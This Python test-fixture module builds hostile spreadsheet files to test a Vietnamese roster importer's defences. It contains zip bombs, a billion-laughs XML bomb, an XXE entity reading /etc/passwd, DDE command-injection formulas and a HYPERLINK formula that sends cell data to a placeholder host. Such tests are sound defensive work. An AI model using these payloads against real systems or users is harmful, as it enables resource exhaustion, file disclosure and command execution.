"""Hostile and strange roster files, written directly as bytes (as an attacker or a broken tool would).

Each maker takes a path, writes the file and returns it. Big ones are streamed, so that making a
million-row sheet takes seconds and little memory.
"""

from __future__ import annotations

import os
import random
import struct
import unicodedata
import zipfile
from pathlib import Path

from tests.reliability.helpers.world import (
    SHEET_HEAD,
    SHEET_TAIL,
    roster_rows,
    row_xml,
    write_package,
    write_roster,
    write_sheet_xlsx,
)

HEADER = ("STT", "Họ và tên", "Ngày sinh", "Giới tính", "Dân tộc")


def not_a_zip(path: Path) -> Path:
    path.write_bytes(os.urandom(50_000))
    return path


def old_xls(path: Path) -> Path:
    """An Excel 97–2003 file (OLE2 compound document) — what many communes still send."""
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4088)
    return path


def html_as_xlsx(path: Path) -> Path:
    """What some web systems export as "Excel": an HTML table with an .xlsx name."""
    path.write_text("<html><body><table><tr><td>Họ và tên</td></tr></table></body></html>", encoding="utf-8")
    return path


def empty_file(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def truncated_xlsx(path: Path) -> Path:
    """A real roster cut in the middle (an interrupted download)."""
    full = write_roster(path.with_suffix(".full.xlsx"))
    data = full.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    full.unlink()
    return path


def zip_bomb_ratio(path: Path) -> Path:
    """A sheet of 150 MB of blank space that packs into a few hundred KB (ratio near 1000)."""
    def chunks():
        yield SHEET_HEAD + row_xml(1, HEADER)
        for _ in range(150):
            yield " " * 1_000_000
        yield SHEET_TAIL

    return write_package(path, chunks())


def zip_bomb_lying_sizes(path: Path) -> Path:
    """A member whose headers claim 2 KB while its data inflates to 50 MB: the checks that trust the
    declared sizes pass it; the reader must still stop."""
    write_package(path, [SHEET_HEAD, "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>"
                  + "A" * 50_000_000 + "</t></is></c></row>", SHEET_TAIL])
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    lie = 2048
    # Local file header: signature PK\3\4, uncompressed size at offset 22 (or in the zip64 extra).
    local = data.find(b"PK\x03\x04" + data[4:4])
    while local != -1:
        name_len, extra_len = struct.unpack_from("<HH", data, local + 26)
        if data[local + 30:local + 30 + name_len] == name:
            _patch_sizes(data, local + 22, local + 30 + name_len, extra_len, lie, zip64_pos=0)
            break
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len, extra_len = struct.unpack_from("<HH", data, central + 28)
        if data[central + 46:central + 46 + name_len] == name:
            _patch_sizes(data, central + 24, central + 46 + name_len, extra_len, lie, zip64_pos=0)
            break
        central = data.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(data))
    return path


def _patch_sizes(data: bytearray, size_pos: int, extra_pos: int, extra_len: int, lie: int, zip64_pos: int) -> None:
    if struct.unpack_from("<I", data, size_pos)[0] == 0xFFFFFFFF:  # sizes live in the zip64 extra field
        end = extra_pos + extra_len
        pos = extra_pos
        while pos < end:
            tag, size = struct.unpack_from("<HH", data, pos)
            if tag == 0x0001:
                struct.pack_into("<Q", data, pos + 4 + zip64_pos, lie)
                return
            pos += 4 + size
    struct.pack_into("<I", data, size_pos, lie)


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)


def xml_bomb(path: Path, part: str = "sheet") -> Path:
    """Billion laughs: nine levels of ten entity references (10⁹ "lol"s) in the sheet or shared strings."""
    if part == "sheet":
        body = (BILLION_LAUGHS + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>'
                '</worksheet>')
        return write_package(path, [body])
    shared = (BILLION_LAUGHS + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
              'uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    return _with_shared_strings(path, shared, [SHEET_HEAD, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
                                               SHEET_TAIL])


def xml_external_entity(path: Path) -> Path:
    """XXE: an entity that would pull a file of the computer into a trainee's name."""
    body = ('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            + row_xml(1, HEADER) + '<row r="2"><c r="B2" t="inlineStr"><is><t>&secret;</t></is></c>'
            '<c r="C2" t="inlineStr"><is><t>01/01/1990</t></is></c></row></sheetData></worksheet>')
    return write_package(path, [body])


SHARED_CONTENT_TYPES_PART = (
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')


def _with_shared_strings(path: Path, shared, sheet_chunks) -> Path:
    """A package with ``xl/sharedStrings.xml`` (str, or an iterable of str pieces, streamed)."""
    from tests.reliability.helpers import world

    rels = world.WORKBOOK_RELS.replace(
        "</Relationships>",
        '<Relationship Id="rId2" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>')
    types = world.CONTENT_TYPES.replace("</Types>", SHARED_CONTENT_TYPES_PART + "</Types>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", world.ROOT_RELS)
        archive.writestr("xl/workbook.xml", world.WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", rels)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as out:
            for piece in ([shared] if isinstance(shared, str) else shared):
                out.write(piece.encode("utf-8"))
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as out:
            for piece in sheet_chunks:
                out.write(piece.encode("utf-8"))
    return path


def _people(count: int, seed: int = 7):
    rng = random.Random(seed)
    families = ("Giàng", "Sùng", "Thào", "Lù", "Vàng", "Ly", "Hầu", "Mùa", "Vừ", "Cư")
    for i in range(count):
        yield (f"{rng.choice(families)} Seo {i:07d}", f"{1 + i % 28:02d}/{1 + i % 12:02d}/{1950 + i % 50}")


def million_rows_inline(path: Path, rows: int = 1_000_000) -> Path:
    """A million data rows of inline strings under a normal header."""
    def chunks():
        yield SHEET_HEAD
        yield row_xml(1, HEADER)
        batch = []
        for i, (name, born) in enumerate(_people(rows), start=2):
            batch.append(f'<row r="{i}"><c r="B{i}" t="inlineStr"><is><t>{name}</t></is></c>'
                         f'<c r="C{i}" t="inlineStr"><is><t>{born}</t></is></c></row>')
            if len(batch) == 5000:
                yield "".join(batch)
                batch = []
        yield "".join(batch)
        yield SHEET_TAIL

    return write_package(path, chunks())


def million_rows_shared(path: Path, rows: int = 1_000_000) -> Path:
    """A million rows the way Excel saves them: every text in ``sharedStrings.xml``, one per row."""
    head = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    header_strings = "".join(f"<si><t>{h}</t></si>" for h in HEADER)

    def strings():
        yield head + header_strings
        batch = []
        for name, born in _people(rows):
            batch.append(f"<si><t>{name}</t></si><si><t>{born}</t></si>")
            if len(batch) == 5000:
                yield "".join(batch)
                batch = []
        yield "".join(batch) + "</sst>"

    def sheet():
        yield SHEET_HEAD
        yield '<row r="1">' + "".join(f'<c r="{c}1" t="s"><v>{k}</v></c>' for k, c in enumerate("ABCDE")) + "</row>"
        batch = []
        for i in range(rows):
            n = 5 + 2 * i
            batch.append(f'<row r="{i + 2}"><c r="B{i + 2}" t="s"><v>{n}</v></c><c r="C{i + 2}" t="s"><v>{n + 1}</v>'
                         "</c></row>")
            if len(batch) == 5000:
                yield "".join(batch)
                batch = []
        yield "".join(batch)
        yield SHEET_TAIL

    return _with_shared_strings(path, strings(), sheet())


def _noise(size: int, seed: int) -> str:
    """Text that packs about 2:1, so a file of it stays within the ratio limit."""
    rng = random.Random(seed)
    letters = b"abcdeghiklmnopqrstuvxy "
    return rng.randbytes(size).translate(bytes(letters[b % len(letters)] for b in range(256))).decode("ascii")


def giant_cell(path: Path, size: int = 10_000_000) -> Path:
    """One 10 MB name among ordinary rows."""
    rows = [("DANH SÁCH",), (), HEADER, (1, "Thào A Sử", "12/04/1985", "Nam", "Mông"),
            (2, _noise(size, 1), "05/03/1990", "Nữ", "Mông"), (3, "Lù Văn Páo", "1979", "Nam", "Nùng")]
    return write_sheet_xlsx(path, rows)


def giant_title_cells(path: Path, cells: int = 8, size: int = 2_000_000) -> Path:
    """Title rows above the header stuffed with megabytes of text in every cell."""
    title = tuple(_noise(size, k) for k in range(cells))
    rows = [title, title, HEADER, (1, "Thào A Sử", "12/04/1985", "Nam", "Mông")]
    return write_sheet_xlsx(path, rows)


def formula_cells(path: Path) -> Path:
    """Formulas where names should be: one with a cached value, one without, one that looks like DDE."""
    body = (SHEET_HEAD + row_xml(1, HEADER)
            + '<row r="2"><c r="B2" t="str"><f>HYPERLINK("http://example.invalid/?x="&amp;A1,"Thào A Sử")</f>'
              '<v>Thào A Sử</v></c><c r="C2" t="inlineStr"><is><t>12/04/1985</t></is></c></row>'
            + '<row r="3"><c r="B3"><f>1+1</f></c><c r="C3" t="inlineStr"><is><t>05/03/1990</t></is></c></row>'
            + row_xml(4, ("", "=cmd|' /C calc'!A0", "1979"))
            + row_xml(5, ("", "@SUM(1+9)*cmd|' /C calc'!A0", "1980"))
            + row_xml(6, ("", "Lù Văn Páo", "1979"))
            + SHEET_TAIL)
    return write_package(path, [body])


def control_and_bidi(path: Path) -> Path:
    """Zero-width, direction-override, BOM and tab characters inside names and dates."""
    rows = [HEADER,
            (1, "Thào\u200b A\u202e Sử\u202c", "12/04/1985", "Nam", "Mông"),
            (2, "\ufeffGiàng\u2066 Thị\u2069 Mỷ\u200f", "05/03/1990", "Nữ", "Mông"),
            (3, "Lù\tVăn\u00a0Páo", "\u202d1979", "Nam", "Nùng"),
            (4, "Vàng\u200d Seo\u200c Chứ", "05-11-1988", "Nam", "Mông")]
    return write_sheet_xlsx(path, rows)


def emoji(path: Path) -> Path:
    rows = [HEADER, (1, "Thào A Sử 😀", "12/04/1985", "Nam", "Mông"),
            (2, "Giàng Thị Mỷ 🇻🇳", "05/03/1990", "Nữ", "Mông"), (3, "Lù Văn Páo", "1979", "Nam", "Nùng")]
    return write_sheet_xlsx(path, rows)


def nfd_text(path: Path) -> Path:
    """Headers and names in NFD, as some Vietnamese input methods and macOS files write them."""
    nfd = lambda text: unicodedata.normalize("NFD", text)  # noqa: E731
    rows = [tuple(nfd(h) for h in HEADER),
            (1, nfd("Thào A Sử"), "12/04/1985", nfd("Nam"), nfd("Mông")),
            (2, nfd("Giàng Thị Mỷ"), "05/03/1990", nfd("Nữ"), nfd("Mông")),
            (3, nfd("Đặng Văn Ánh"), "1979", nfd("Nam"), nfd("Nùng"))]
    return write_sheet_xlsx(path, rows)


def ordinary(path: Path) -> Path:
    """A normal roster, for comparison."""
    return write_roster(path, roster_rows(50))


def rows_up_to_the_limit(path: Path, megabytes: int = 40) -> Path:
    """As many rows as fit under the unpacked-size limit, with no ``<dimension>`` element (openpyxl
    then parses the whole sheet once more just to find its size): the slowest file let through."""
    def chunks():
        yield SHEET_HEAD
        yield row_xml(1, HEADER)
        size, batch = 0, []
        for i, (name, born) in enumerate(_people(10_000_000), start=2):
            piece = (f'<row r="{i}"><c r="B{i}" t="inlineStr"><is><t>{name}</t></is></c>'
                     f'<c r="C{i}" t="inlineStr"><is><t>{born}</t></is></c></row>')
            batch.append(piece)
            size += len(piece)
            if len(batch) == 5000:
                yield "".join(batch)
                batch = []
                if size > megabytes * 1024 * 1024 - 2_000_000:
                    break
        yield "".join(batch)
        yield SHEET_TAIL

    return write_package(path, chunks())


def shared_strings_up_to_the_limit(path: Path, megabytes: int = 16) -> Path:
    """Shared strings (loaded whole by openpyxl) filling the unpacked-size limit: the most memory."""
    count = (megabytes * 1024 * 1024 - 100_000) // 37

    def strings():
        yield '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        yield "".join(f"<si><t>{h}</t></si>" for h in HEADER)
        batch = []
        for i in range(count):
            batch.append(f"<si><t>Sùng Seo {i:09d}</t></si>")
            if len(batch) == 10_000:
                yield "".join(batch)
                batch = []
        yield "".join(batch) + "</sst>"

    header = '<row r="1">' + "".join(f'<c r="{c}1" t="s"><v>{k}</v></c>' for k, c in enumerate("ABCDE")) + "</row>"
    return _with_shared_strings(path, strings(), [SHEET_HEAD, header, row_xml(2, ("", "Thào A Sử", "1980")),
                                                 SHEET_TAIL])


# --- the other formats a commune sends (issue 13): .ods, .xls, .csv --------------------------------------

_ODS_HEAD = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
             'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
             'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
             '<office:body><office:spreadsheet><table:table table:name="DS">')
_ODS_TAIL = "</table:table></office:spreadsheet></office:body></office:document-content>"
_ODS_MANIFEST = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                 '<manifest:file-entry manifest:full-path="/" '
                 'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                 '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                 "</manifest:manifest>")


def _ods_row(values) -> str:
    cells = "".join(f'<table:table-cell office:value-type="string"><text:p>{v}</text:p></table:table-cell>'
                    for v in values)
    return f"<table:table-row>{cells}</table:table-row>"


def _ods(path: Path, content_chunks, *, prolog: str = '<?xml version="1.0" encoding="UTF-8"?>') -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", _ODS_MANIFEST)
        with archive.open("content.xml", "w", force_zip64=True) as content:
            content.write(prolog.encode())
            for chunk in content_chunks:
                content.write(chunk.encode("utf-8"))
    return path


def ods_zip_bomb_ratio(path: Path) -> Path:
    """An .ods whose content.xml is 150 MB of blank space packed into a few hundred KB."""
    def chunks():
        yield _ODS_HEAD + _ods_row(HEADER)
        for _ in range(150):
            yield " " * 1_000_000
        yield _ODS_TAIL

    return _ods(path, chunks())


def ods_xml_bomb(path: Path) -> Path:
    """Billion laughs inside an .ods."""
    body = _ODS_HEAD + _ods_row(HEADER) + _ods_row(("1", "&lol9;", "01/01/1990")) + _ODS_TAIL
    return _ods(path, [body], prolog=BILLION_LAUGHS)


def ods_rows_up_to_the_limit(path: Path, megabytes: int = 15) -> Path:
    """As many rows as fit in an .ods content.xml under the per-part limit: far more than 20,000."""
    def chunks():
        yield _ODS_HEAD + _ods_row(HEADER)
        size, batch = 0, []
        for i, (name, born) in enumerate(_people(10_000_000)):
            piece = _ods_row((str(i + 1), name, born))
            batch.append(piece)
            size += len(piece)
            if len(batch) == 5000:
                yield "".join(batch)
                batch = []
                if size > megabytes * 1024 * 1024 - 1_000_000:
                    break
        yield "".join(batch) + _ODS_TAIL

    return _ods(path, chunks())


def xls_garbage(path: Path) -> Path:
    """An OLE2 compound document header followed by noise: a broken or fake .xls."""
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(3).randbytes(200_000))
    return path


def csv_too_big(path: Path) -> Path:
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(",".join(HEADER) + "\n")
        line = "1,Thào A Sử,01/01/1980,Nam,Mông\n"
        handle.write(line * (25 * 1024 * 1024 // len(line.encode())))
    return path


def csv_rows_up_to_the_limit(path: Path, megabytes: int = 19) -> Path:
    """Short rows up to the file-size limit: about half a million, far more than 20,000."""
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(",".join(HEADER) + "\n")
        size = 0
        for i, (name, born) in enumerate(_people(10_000_000)):
            line = f"{i + 1},{name},{born},,\n"
            handle.write(line)
            size += len(line.encode())
            if size > megabytes * 1024 * 1024:
                break
    return path


def csv_binary(path: Path) -> Path:
    path.write_bytes(os.urandom(100_000))
    return path


def ordinary_ods(path: Path) -> Path:
    return _ods(path, [_ODS_HEAD + _ods_row(("DANH SÁCH HỌC VIÊN",)) + _ods_row(HEADER)
                       + "".join(_ods_row(r[:4]) for r in roster_rows(50)) + _ODS_TAIL])


def ordinary_csv(path: Path) -> Path:
    import csv

    with open(path, "w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(HEADER)
        writer.writerows(r[:5] for r in roster_rows(50))
    return path


def ordinary_xls(path: Path) -> Path:
    import xlwt

    workbook = xlwt.Workbook(encoding="utf-8")
    sheet = workbook.add_sheet("DS")
    for r, values in enumerate([HEADER, *(row[:5] for row in roster_rows(50))]):
        for c, value in enumerate(values):
            sheet.write(r, c, value)
    workbook.save(str(path))
    return path
